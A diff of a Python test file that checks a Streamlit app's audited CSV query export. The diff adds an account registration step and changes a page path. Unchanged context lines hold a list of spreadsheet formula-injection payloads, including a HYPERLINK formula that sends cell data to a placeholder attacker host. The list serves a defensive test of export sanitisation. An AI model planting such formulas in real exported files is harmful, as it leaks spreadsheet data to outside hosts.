@@ -19,7 +19,7 @@ from jigsaw import audit
 from jigsaw.config import REPO_ROOT
 from tests.builders import folder_with, load, referral
 from tests.downloads import click, deferred  # noqa: F401 (a fixture)
-from tests.test_explorer_pages import APP, ANALYST
+from tests.test_explorer_pages import ANALYST, APP, register
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
 TABLE_CALLS = {"dataframe", "data_editor", "table"}
@@ -59,9 +59,10 @@ def test_the_query_csv_exists_only_after_a_click_that_is_audited_first_and_is_fo
     # Loads refuse such names; the export must not rely on that (a package, an older load, a hand edit).
     graph.execute_query("MATCH (m:Mention) SET m.name = $name", name=FORMULAS[0], database_=db)
     at = AppTest.from_file(APP, default_timeout=60)
+    register(ANALYST)  # every run checks the session's account against the store
     at.session_state["account"] = ANALYST
     at.session_state["purpose"] = "CASE-2024-001"
-    at.run().switch_page("pages/queries.py").run()
+    at.run().switch_page("views/queries.py").run()
     at.selectbox[0].select("person_search").run()
     next(t for t in at.text_input if t.label.startswith("record_id")).input("CSV-1")
     next(b for b in at.button if b.label == "Run").click().run()
